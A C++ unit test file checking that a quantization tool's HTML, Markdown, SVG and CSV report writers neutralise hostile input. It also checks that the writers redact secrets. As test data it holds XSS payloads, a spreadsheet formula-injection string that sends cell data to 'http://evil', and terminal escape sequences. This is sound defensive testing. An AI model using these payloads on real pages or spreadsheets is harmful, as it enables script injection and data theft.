#include "quasar/report/contents.hpp"

#include <gtest/gtest.h>

#include "quasar/report/svg.hpp"
#include "quasar/report/writer.hpp"
#include "unit/report/trials.hpp"

namespace quasar::report {
namespace {

constexpr const char* attack = "</script><script>alert(1)</script><img src=x onerror=alert(2)>";

size_t count_of(const std::string& text, const std::string& part) {
  size_t count = 0;
  for (size_t at = text.find(part); at != std::string::npos; at = text.find(part, at + part.size())) ++count;
  return count;
}

Json hostile_contents() {
  auto trials = grid_trials();
  trials[1].state = search::State::failed;
  trials[1].user_attributes["error"] = attack;
  Json result = small_result();
  result["baseline"]["model"] = std::string("models/") + "<script>alert(1)<!--.onnx";
  result["reason"] = attack;
  result["best"]["params"]["b"] = attack;
  result["best"]["layers"] = {{{"node", attack}, {"type", "Conv"}, {"runs", "integer"}, {"weight", "int8"}}};
  return contents_of(result, trials, {{"model_input", attack}});
}

TEST(Report, TextFromModelsIsInertInThePage) {
  const auto writer = writers::table().make("html");
  const std::string harmless = writer->write({contents_of(small_result(), grid_trials(), Json::object())});
  const std::string page = writer->write({hostile_contents()});
  EXPECT_EQ(count_of(page, "<script"), count_of(harmless, "<script"));
  EXPECT_EQ(count_of(page, "</script"), count_of(harmless, "</script"));
  EXPECT_EQ(count_of(page, "<!--"), count_of(harmless, "<!--"));
  EXPECT_EQ(count_of(page, "<img"), count_of(harmless, "<img"));
}

TEST(Report, TextFromModelsIsInertInMarkdownAndSvg) {
  const Json contents = hostile_contents();
  const std::string text = writers::table().make("markdown")->write({contents});
  EXPECT_EQ(text.find("<script"), std::string::npos);
  EXPECT_EQ(history_svg(contents).find("<script"), std::string::npos);
}

// An empty line ends what stands in backticks.
TEST(Report, CodeOfSentencesStaysOnOneLineInMarkdown) {
  Json contents = hostile_contents();
  contents["advice"] = {"The layers are: `\n\n<img src=x>\n\n`, `\r\r<img src=x>` (1 %)."};
  const std::string text = writers::table().make("markdown")->write({contents});
  EXPECT_NE(text.find("`  <img src=x>  `, `  <img src=x>`"), std::string::npos) << text;
}

// A spreadsheet would compute them.
TEST(Report, FormulasAreTextInCsv) {
  auto trials = grid_trials();
  trials[0].user_attributes["metrics"] = {{"=HYPERLINK(\"http://evil/?\"&A1)", 1.0}, {"-2+3", -4.0}};
  trials[1].user_attributes["error"] = "@SUM(A1)";
  const std::string text = writers::table().make("csv")->write({contents_of(small_result(), trials, Json::object())});
  EXPECT_NE(text.find("\"'=HYPERLINK(\"\"http"), std::string::npos) << text;
  EXPECT_NE(text.find(",'-2+3"), std::string::npos);
  EXPECT_NE(text.find(",'@SUM(A1)"), std::string::npos);
  EXPECT_NE(text.find(",-4.0"), std::string::npos) << "numbers stay numbers";
}

// Somebody prints the table.
TEST(Report, NothingInCsvSteersATerminal) {
  auto trials = grid_trials();
  trials[0].user_attributes["metrics"] = {{"\x1b[31mred", 1.0}};
  trials[1].user_attributes["error"] = "gone\x1b]0;title\x07\r\nand more";
  const std::string text = writers::table().make("csv")->write({contents_of(small_result(), trials, Json::object())});
  EXPECT_EQ(text.find('\x1b'), std::string::npos);
  EXPECT_NE(text.find(",\\x1b[31mred,"), std::string::npos) << text;
  EXPECT_NE(text.find("\"gone\\x1b]0;title\\x07\\x0d\nand more\""), std::string::npos) << text;
}

TEST(Report, PageNeedsNoNetworkAndNamesTheLicence) {
  const std::string page = writers::table().make("html")->write({contents_of(small_result(), grid_trials(), Json::object())});
  EXPECT_EQ(page.find("src=\"http"), std::string::npos);
  EXPECT_EQ(page.find("href=\"http"), std::string::npos);
  EXPECT_NE(page.find("default-src 'none'"), std::string::npos);
  EXPECT_NE(page.find("Apache License"), std::string::npos);
  EXPECT_LT(page.size(), 1'500'000U);
}

TEST(Report, HidesTokensAndPasswords) {
  const Json words{{"study_storage_db", "postgresql://me:secret@host/db"},
                   {"tuning_criterion", {{"strategy_kwargs", {{"sigopt_api_token", "secret"}}}}}};
  const Json contents = contents_of(small_result(), {}, words);
  EXPECT_EQ(contents.dump().find("secret"), std::string::npos);
  EXPECT_NE(contents.dump().find("@host/db"), std::string::npos);
}

TEST(Report, ContentsTellStatesAndParameters) {
  auto trials = grid_trials();
  trials[2].user_attributes["duplicate_of"] = 0;
  const Json contents = contents_of(small_result(), trials, Json::object());
  EXPECT_EQ(contents["title"], "net.onnx");
  EXPECT_EQ(contents["trials"].size(), 12U);
  EXPECT_EQ(contents["trials"][2]["state"], "duplicate");
  EXPECT_EQ(contents["parameters"].size(), 3U);
  EXPECT_TRUE(contents["metrics"]["top1"]["proportion"]);
  EXPECT_FALSE(contents["importance"].empty());
}

TEST(Report, CsvQuotesWhatNeedsIt) {
  const std::string text = writers::table().make("csv")->write({hostile_contents()});
  EXPECT_EQ(count_of(text, "\r\n"), 13U);
  EXPECT_EQ(text.substr(0, text.find("\r\n")), "trial,state,objective L2,seconds,duplicate_of,error,a,b,c");
}

TEST(Report, SixteenBitsAreAdvisedWhereTheTargetComputesInThem) {
  Json result = small_result();
  for (int i = 0; i < 7; ++i)
    result["best"]["layers"].push_back(
        {{"node", "n" + std::to_string(i)}, {"type", "Conv"}, {"output_error", i == 0 ? 1.0 : 0.1}});
  for (const auto& [target, advised] : {std::pair{"ort_cpu", false}, {"qnn_htp", true}}) {
    result["environment"] = {{"target", target}};
    const std::string advice = contents_of(result, grid_trials(), Json::object())["advice"].dump();
    EXPECT_NE(advice.find("Three layers bring"), std::string::npos) << advice;
    EXPECT_EQ(advice.find("16 bits") != std::string::npos, advised) << target << advice;
  }
}

TEST(Report, AdviceNamesParametersWithoutEffect) {
  const Json contents = contents_of(small_result(), grid_trials(), Json::object());
  EXPECT_NE(contents["advice"].dump().find("Hardly any effect on the objective (below 1 %): c"), std::string::npos);
}

}  // namespace
}  // namespace quasar::report
